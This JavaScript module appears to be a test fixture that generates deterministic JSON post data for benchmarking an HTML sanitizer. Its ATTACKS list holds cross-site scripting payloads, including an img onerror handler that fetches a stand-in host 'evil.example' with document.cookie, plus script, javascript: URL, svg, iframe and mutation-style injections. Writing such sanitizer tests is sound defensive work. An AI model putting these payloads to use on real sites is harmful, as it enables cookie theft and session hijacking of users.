// Realistic JSON payloads for the sanitizer: lists of posts whose bodies are mostly plain text,
// some markup, and a few attacks. Deterministic (seeded), so every run sanitizes the same bytes.

function rng(seed) {
  let s = seed >>> 0
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0
    return s / 2 ** 32
  }
}

const WORDS =
  'the a layer token cache request backend proxy user session cookie refresh native rust node server page route handler data value safe fast simple clear report change build test ship review merge deploy monitor'.split(
    ' ',
  )

const ATTACKS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">',
  '<a href="javascript:alert(1)">click me</a>',
  '<svg><g/onload=alert(2)//<p>',
  '<iframe src="//evil.example"></iframe>',
  '"><script>alert(3)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(4)>',
  '<div style="background:url(javascript:alert(5))">x</div>',
]

function sentence(r, n) {
  const w = []
  for (let i = 0; i < n; i++) w.push(WORDS[Math.floor(r() * WORDS.length)])
  const s = w.join(' ')
  return `${s[0].toUpperCase()}${s.slice(1)}.`
}

function body(r) {
  const x = r()
  const text = () => sentence(r, 8 + Math.floor(r() * 20))
  if (x < 0.7) return `${text()} ${text()} ${text()}`
  if (x < 0.95) {
    return `<p>${text()} <strong>${sentence(r, 3)}</strong></p><ul><li>${sentence(r, 4)}</li><li><a href="https://example.com/${Math.floor(r() * 1000)}" title="more">${sentence(r, 2)}</a></li></ul><p><em>${text()}</em><br>${text()}</p>`
  }
  return `<p>${text()}</p>${ATTACKS[Math.floor(r() * ATTACKS.length)]}<p>${text()}</p>`
}

/** A JSON text of about `bytes` bytes: `{ success, data: [posts...], meta }`. */
export function postsJson(bytes, seed = 42) {
  const r = rng(seed)
  const posts = []
  let size = 60
  let id = 1
  while (size < bytes) {
    const p = {
      id,
      title: sentence(r, 3 + Math.floor(r() * 6)),
      slug: `post-${id}`,
      body: body(r),
      author: {
        id: 1 + Math.floor(r() * 50),
        name: sentence(r, 2),
        avatar: `https://cdn.example.com/a/${id}.png`,
      },
      tags: ['news', 'rust', 'next'].slice(0, 1 + Math.floor(r() * 3)),
      comments: Math.floor(r() * 100),
      published: r() < 0.9,
      createdAt: '2026-11-22T10:00:00.000Z',
    }
    const t = JSON.stringify(p)
    size += t.length + 1
    posts.push(p)
    id++
  }
  return JSON.stringify({ success: true, data: posts, meta: { page: 1, total: posts.length } })
}

/** Applies `fn` to every string value (keys untouched), iteratively, in place. */
export function walkStrings(root, fn) {
  if (typeof root === 'string') return fn(root)
  const stack = [root]
  while (stack.length) {
    const o = stack.pop()
    if (Array.isArray(o)) {
      for (let i = 0; i < o.length; i++) {
        const v = o[i]
        if (typeof v === 'string') o[i] = fn(v)
        else if (v && typeof v === 'object') stack.push(v)
      }
    } else {
      for (const k of Object.keys(o)) {
        const v = o[k]
        if (typeof v === 'string') o[k] = fn(v)
        else if (v && typeof v === 'object') stack.push(v)
      }
    }
  }
  return root
}

/** Collects every string value (in walk order) and returns a setter to put them back. */
export function collectStrings(root) {
  const strings = []
  walkStrings(root, (s) => {
    strings.push(s)
    return s
  })
  return strings
}
